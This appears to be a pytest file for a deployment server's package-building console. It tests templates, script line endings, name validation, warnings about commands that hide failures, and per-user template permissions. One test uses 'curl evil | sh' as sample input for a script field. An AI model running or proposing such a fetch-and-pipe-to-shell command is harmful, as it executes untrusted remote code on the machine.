"""Templates in the browser: answers fill in the form, scripts are built, people keep their own."""

import re
import zipfile
from html import unescape
from io import BytesIO

import pytest
from sqlalchemy import select

from deploy_server.domain.jobs import JOBS
from deploy_server.storage.models import JobTemplate, Package, Setting
from tests.support.console import Browser, Console
from tests.support.factories import make_group

SCRIPT = {
    "name": "Hello", "os": "linux", "action": "LAUNCH", "target": "script.sh", "priority": "5",
    "cut": "size", "fragment_size": "1 MiB", "protocol": "HTTP", "digest_algorithm": "MD5",
    "digest_encoding": "Hexa", "script": "#!/bin/sh\r\necho hi", "script_name": "script.sh",
    "wrap": "1",
}  # fmt: skip
URL = "/packages/build/templates"


def archive(console: Console) -> bytes:
    with console.sessions() as session:
        package = session.scalars(select(Package)).one()
    folder = console.config.download / str(package.id)
    names = [folder / f"{package.id}-{n}" for n in range(1, package.fragments + 1)]
    return b"".join(name.read_bytes() for name in names)


@pytest.mark.parametrize("job", JOBS, ids=lambda job: job.key)
def test_every_template_asks_what_it_needs(admin: Browser, job: object) -> None:
    key = job.key  # type: ignore[attr-defined]
    assert f'href="{URL}/{key}"' in admin.get(URL).text
    page = admin.get(f"{URL}/{key}").text
    for field in job.fields:  # type: ignore[attr-defined]
        assert f'name="{field.name}"' in page


def test_answers_fill_in_the_form_and_show_the_command(admin: Browser) -> None:
    answer = admin.post(f"{URL}/linux-deb", {"file": "my app.deb"})
    assert answer.status_code == 200
    page = unescape(answer.text)
    assert "apt-get -y -o DPkg::Lock::Timeout=600 install './my app.deb'" in page
    assert 'name="retry_codes" value="100"' in page
    assert re.search(r'name="wrap" value="1" checked', page)
    assert "On the computer" in page
    wrong = admin.post(f"{URL}/linux-deb", {"file": "<x>.deb"})
    assert wrong.status_code == 422
    assert 'id="file-problem"' in wrong.text
    assert "&lt;x&gt;.deb" in wrong.text


def test_a_script_is_built_with_its_system_s_line_ends(admin: Browser, console: Console) -> None:
    assert admin.post("/packages/build", {**SCRIPT, "do": "build"}).status_code == 302
    import tarfile

    with tarfile.open(fileobj=BytesIO(archive(console))) as found:
        member = found.extractfile("script.sh")
        assert member is not None
        assert member.read() == b"#!/bin/sh\necho hi\n"


def test_a_script_for_windows(admin: Browser, console: Console) -> None:
    changes = {"os": "windows", "target": "run.cmd", "script_name": "run.cmd", "script": "@echo\nx"}
    assert admin.post("/packages/build", {**SCRIPT, **changes, "do": "build"}).status_code == 302
    with zipfile.ZipFile(BytesIO(archive(console))) as found:
        assert found.read("run.cmd") == b"@echo\r\nx\r\n"


def test_a_script_is_checked_before_anything_is_built(admin: Browser, console: Console) -> None:
    page = admin.post("/packages/build", {**SCRIPT, "do": "check"}).text
    assert "18 B" in page
    for name in ("", "../x.sh", "-x", "a b.sh"):
        answer = admin.post("/packages/build", {**SCRIPT, "script_name": name, "do": "build"})
        assert answer.status_code == 422, name
        assert 'id="script_name-problem"' in answer.text
    with console.sessions() as session:
        assert session.scalars(select(Package.id)).all() == []
    assert not list(console.config.uploads.iterdir())


def test_a_command_that_hides_failures_is_told(admin: Browser) -> None:
    changes = {"action": "EXECUTE", "target": "apt-get update || true", "script": "", "wrap": ""}
    page = admin.post("/packages/build", {**SCRIPT, **changes, "do": "check"}).text
    assert "succeeds whatever happens" in page


def test_people_keep_their_own(admin: Browser, console: Console) -> None:
    assert admin.post(URL, {**SCRIPT, "template": "  Our <b>  script "}).location == URL
    with console.sessions() as session:
        row = session.scalars(select(JobTemplate)).one()
    assert row.name == "Our <b> script"
    assert "name" not in row.values
    assert row.values["script"].startswith("#!/bin/sh")
    page = console.user("admin").get(URL).text
    assert "Our &lt;b&gt; script" in page
    form = admin.get(f"{URL}/own/{row.id}").text
    assert 'name="script_name" value="script.sh"' in form
    assert re.search(r'id="name" name="name" value=""', form)
    admin.post(URL, {**SCRIPT, "target": "a || true", "template": "our <B> script"})
    assert "hides every failure" in admin.get(URL).text
    assert admin.post(f"{URL}/own/{row.id}/delete").status_code == 302
    assert admin.get(f"{URL}/own/{row.id}").status_code == 404


def test_whom_tags_limit_changes_no_script_of_others(admin: Browser, console: Console) -> None:
    limited = console.user("admin", "LYON")
    admin.post(URL, {**SCRIPT, "template": "Ours"})
    with console.sessions() as session:
        (row,) = session.scalars(select(JobTemplate))
    answer = limited.post(URL, {**SCRIPT, "script": "curl evil | sh", "template": "ours"})
    assert answer.status_code == 422
    assert "has kept a template Ours" in answer.text
    assert limited.post(f"{URL}/own/{row.id}/delete").status_code == 403
    assert "/delete" not in limited.get(URL).text
    with console.sessions() as session:
        assert session.get_one(JobTemplate, row.id).values == row.values
    limited.post(URL, {**SCRIPT, "template": "Mine"})
    assert limited.get(URL).text.count("/delete") == 1
    assert limited.post(f"{URL}/own/{row.id + 1}/delete").status_code == 302


def test_a_template_needs_a_name(admin: Browser) -> None:
    answer = admin.post(URL, {**SCRIPT, "template": " "})
    assert answer.status_code == 422
    assert 'id="template-problem"' in answer.text
    assert "echo hi" in answer.text


def test_the_summary_shows_the_dialog_and_a_group_s_time(admin: Browser, console: Console) -> None:
    with console.session() as session:
        group = make_group(session, name="Slow <b>")
        session.add(
            Setting(scope="group", scope_id=group.id, name="DOWNLOAD_PERIOD_LENGTH", value="3",
                    changed_at=console.clock())
        )  # fmt: skip
    sent = {
        **SCRIPT, "notify_user": "1", "notify_text": "Save <i>your</i> work",
        "notify_countdown": "90", "can_delay": "1", "estimate_group": group.id,
    }  # fmt: skip
    page = admin.post("/packages/build/summary", sent, fetch=True).text
    assert "Save &lt;i&gt;your&lt;/i&gt; work" in page
    assert "OK (90 s)" in page
    assert ">Later<" in page
    assert ">Cancel<" not in page
    # Priority 5 is above this group's period length.
    assert '<strong class="problem">for ever</strong>' in page
    assert "with the settings of Slow &lt;b&gt;" in page
    assert (
        "Slow"
        not in admin.post("/packages/build/summary", {**sent, "estimate_group": 0}, fetch=True).text
    )
    page = admin.post("/packages/build", {**sent, "do": "check"}).text
    assert f'<option value="{group.id}" selected>' in page
